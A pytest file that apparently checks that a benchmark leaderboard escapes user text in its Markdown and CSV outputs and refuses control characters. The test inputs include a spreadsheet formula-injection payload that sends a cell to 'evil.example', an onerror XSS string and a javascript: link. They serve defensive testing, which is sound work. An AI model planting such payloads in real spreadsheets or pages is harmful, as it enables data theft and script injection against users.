"""Audit D5/D6: user text reaches the Markdown board as text (no extra cells, no raw HTML) and the CSV as
text (no formulas); free-text card fields refuse control characters."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from benchmark.leaderboard import board
from benchmark.leaderboard.card import card_from_dict
from benchmark.leaderboard.errors import SubmissionError
from benchmark.leaderboard.escape import csv_text, markdown_code, markdown_text
from benchmark.leaderboard.references import Comparison, Track
from benchmark.leaderboard.validate import ValidationOptions, validate_submission
from tests.leaderboard.tiny import TinySource, card_dict, store_reference, write_submission

HYPERLINK = '=HYPERLINK("evil.example?x="&A1,"click")'     # no "/": it is also a directory name
PIPE_HTML = "a|b<b>bold"


# ------------------------------------------------------------------------------------------------ unit
@pytest.mark.parametrize("clean", ["raddpo-no-tlgd", "sft", "quick-table1-dpo", "4576fa5b25567bda", "v1.2+x:y"])
def test_clean_text_renders_unchanged(clean: str) -> None:
    assert markdown_text(clean) == clean == csv_text(clean)
    assert markdown_code(clean) == f"`{clean}`"


def test_markdown_text_has_no_markup_cell_separator_or_line_break() -> None:
    out = markdown_text("x | y <img src=x onerror=alert(1)> & `code` \\ [l](javascript:x)\nnext\r\u2028z")
    for bad in ("|", "<", ">", "`", "\n", "\r", "\u2028", "\\", "[", "]"):
        assert bad not in out
    assert out == ("x &#124; y &lt;img src=x onerror=alert(1)&gt; &amp; &#96;code&#96; &#92; "
                   "&#91;l&#93;(javascript:x) next  z")
    assert markdown_code(PIPE_HTML) == markdown_text(PIPE_HTML) == "a&#124;b&lt;b&gt;bold"


@pytest.mark.parametrize("cell", [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1"])
def test_csv_cells_that_would_start_a_formula_are_neutralised(cell: str) -> None:
    out = csv_text(cell)
    assert out.startswith("'") and "\t" not in out and "\r" not in out


# ----------------------------------------------------------------------------------------------- cards
@pytest.mark.parametrize("field, section", [("hardware", None), ("submitter", None), ("description", "method")])
def test_free_text_card_fields_refuse_control_characters(field: str, section: str | None) -> None:
    source = TinySource()
    data = card_dict(source, [0])
    target = data[section] if section else data
    target[field] = "line one\x1b[31m red"
    with pytest.raises(SubmissionError, match=rf"The '{field}' parameter of \w+ must be .*U\+001B"):
        card_from_dict(data)


def test_line_feeds_only_in_paragraph_fields_and_html_or_formulas_are_data() -> None:
    source = TinySource()
    data = card_dict(source, [0], hardware="1x GPU\n<b>2x</b>")
    with pytest.raises(SubmissionError, match=r"'hardware' parameter of RunCard must be one line of text.*U\+000A"):
        card_from_dict(data)
    data = card_dict(source, [0], hardware=HYPERLINK + " | <b>x</b>", submitter=HYPERLINK)
    data["method"]["description"] = "para one\n\npara <i>two</i> | " + HYPERLINK
    card = card_from_dict(data)
    assert card.method.description.startswith("para one\n\npara <i>two</i>")
    data["method"]["name"] = HYPERLINK                     # the board's row name stays an identifier
    with pytest.raises(SubmissionError, match="'name' parameter of MethodInfo"):
        card_from_dict(data)


# ----------------------------------------------------------------------------------------------- board
def _cells(line: str) -> int:
    return line.count("|") - 1


def test_hostile_directory_names_and_reasons_render_as_text(tmp_path: Path) -> None:
    source = TinySource()
    results, subs = tmp_path / "results", tmp_path / "submissions"
    for method, skill in (("sft", 0.3), ("dpo", 0.35)):
        store_reference(results, source, method, skill, 0)
    for name in (PIPE_HTML, HYPERLINK):
        validate_submission(write_submission(subs / name, source, skill=0.5, seeds=(0,)), source=source,
                            results_root=results, options=ValidationOptions(n_resamples=200))
    bad = write_submission(subs / "c<i>|x", source, seeds=(0,))
    (bad / "x|y<b>z.txt").write_text("")                  # rejected: the reason quotes the file name

    entries, skipped = board.build_leaderboard(subs, results)
    assert [name for name, _ in skipped] == ["c<i>|x"] and "x|y<b>z.txt" in skipped[0][1]
    md = board.render_markdown(entries, skipped)
    for raw in ("<b>", "<i>", "a|b", "y<b"):
        assert raw not in md
    table = [line for line in md.splitlines() if line.startswith("|")]
    assert len(table) == 2 + 4 and len({_cells(line) for line in table}) == 1
    assert "submission (a&#124;b&lt;b&gt;bold)" in md
    [not_shown] = [line for line in md.splitlines() if line.startswith("- ")]
    assert not_shown.startswith("- c&lt;i&gt;&#124;x: Unexpected file(s) in the submission: x&#124;y&lt;b&gt;z")

    rows = list(csv.reader(io.StringIO(board.render_csv(entries))))
    header, body = rows[0], rows[1:]
    assert all(len(r) == len(header) for r in body)
    sources = {r[header.index("source")] for r in body if r[header.index("type")] == "submission"}
    assert sources == {"'" + HYPERLINK, PIPE_HTML}


def test_csv_neutralises_text_cells_but_not_numbers() -> None:
    track = Track("tiny", "t", "c", 8, "q", 30)
    entry = board.BoardEntry(track=track, name=HYPERLINK, kind="reference", source="-p", seeds=1,
                             mean={"item_recall@100": 0.5}, std={"item_recall@100": None},
                             vs_sft=Comparison("sft", "item_recall@100", -0.25, 0.5, 0.5), code="grbench:x")
    text = board.render_csv([entry])
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["method"] == "'" + HYPERLINK and row["source"] == "'-p"
    assert row["vs_sft_delta"] == "-0.250000" and row["item_recall@100"] == "0.500000"
    assert '"\'=HYPERLINK(""evil.example?x=""&A1,""click"")"' in text      # quoted, RFC 4180
